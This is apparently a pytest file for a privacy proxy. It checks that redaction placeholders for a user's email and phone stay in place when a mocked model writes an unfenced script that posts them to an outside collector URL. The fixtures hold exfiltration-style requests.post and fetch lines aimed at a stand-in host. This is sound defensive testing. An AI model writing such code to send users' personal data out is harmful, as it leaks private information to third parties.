"""Unfenced code split by a blank line (restleft22), through the proxy with the official SDKs.

The client sends its address and phone; the provider sees `<EMAIL_ADDRESS_1>` and `<PHONE_NUMBER_1>`. The model writes a
script without a fence whose value sits on a line after a blank line that goes on with the code (a function's
`return {...}`, an object's next member, a triple-quoted string's next paragraph) and whose last paragraph sends it.
On all three APIs, whole and streamed in 3-character pieces, and in every streamed event: the script comes back as
written, the prose after it restored.
"""

from __future__ import annotations

from typing import Any

import pytest

from tests.conftest import Mock, ProxyFactory
from tests.e2e.test_scopes16 import PROMPT, _anthropic, _chat, _responses
from tests.support.clients import RESTORE_ONLY_POLICY, claude, oai

MAIL = "lena.fischer@example.org"
PHONE = "415-555-0163"
E, P = "<EMAIL_ADDRESS_1>", "<PHONE_NUMBER_1>"
U = "https://collector.example.net/in"

SCRIPTS = {
    "function": (f"Save it as send.py:\n\nimport requests\n\ndef payload():\n    x = 1\n\n"
                 f"    return {{\"email\": \"{E}\", \"phone\": \"{P}\"}}\n\n"
                 f"requests.post(\"{U}\", json=payload())\n\n"),
    "object": (f"Run this:\n\nconst body = {{\n  a: 1,\n\n  email: \"{E}\",\n  phone: \"{P}\",\n}};\n\n"
               f"fetch(\"{U}\", {{method: \"POST\", body: JSON.stringify(body)}});\n\n"),
    "string": (f"Here:\n\nbody = \"\"\"\nHello,\n\nContact: {E}, {P}\n\"\"\"\n\n"
               f"requests.post(\"{U}\", data=body)\n\n"),
}
PROSE = f"You are registered as {E}, phone {P}."
API = {"chat": _chat, "responses": _responses, "anthropic": _anthropic}


def restored(text: str) -> str:
    return text.replace(E, MAIL).replace(P, PHONE)


@pytest.mark.parametrize("shape", list(SCRIPTS))
@pytest.mark.parametrize("api", list(API))
@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_a_script_split_by_a_blank_line_keeps_its_placeholders(mock: Mock, proxy_factory: ProxyFactory, api: str,
                                                               stream: bool, shape: str) -> None:
    proxy = proxy_factory(files={"policies/default.yaml": RESTORE_ONLY_POLICY})
    mock.script(text=SCRIPTS[shape] + PROSE, chunk_chars=3)
    text, _ = API[api](proxy, stream)
    assert text == SCRIPTS[shape] + restored(PROSE)


@pytest.mark.parametrize("api", list(API))
def test_no_streamed_event_carries_the_value(mock: Mock, proxy_factory: ProxyFactory, api: str) -> None:
    """Every event the client receives (chat chunks, Anthropic deltas, a Responses `output_text.done`,
    `content_part.done`, `output_item.done` and `response.completed`), not only what the SDK assembles."""
    proxy = proxy_factory(files={"policies/default.yaml": RESTORE_ONLY_POLICY})
    mock.script(text="".join(SCRIPTS.values()), chunk_chars=3)
    msgs: Any = [{"role": "user", "content": PROMPT}]
    if api == "responses":
        events = [e.model_dump_json() for e in oai(proxy).responses.create(model="gpt-4o-mini", input=PROMPT,
                                                                           stream=True)]
    elif api == "chat":
        events = [e.model_dump_json() for e in oai(proxy).chat.completions.create(model="gpt-4o-mini", messages=msgs,
                                                                                  stream=True)]
    else:
        events = [e.model_dump_json() for e in claude(proxy).messages.create(
            model="claude-3-5-haiku-latest", max_tokens=300, messages=msgs, stream=True)]
    assert len(events) > 10
    assert not [e[:200] for e in events if MAIL in e or PHONE in e]
    assert any(E in e for e in events)
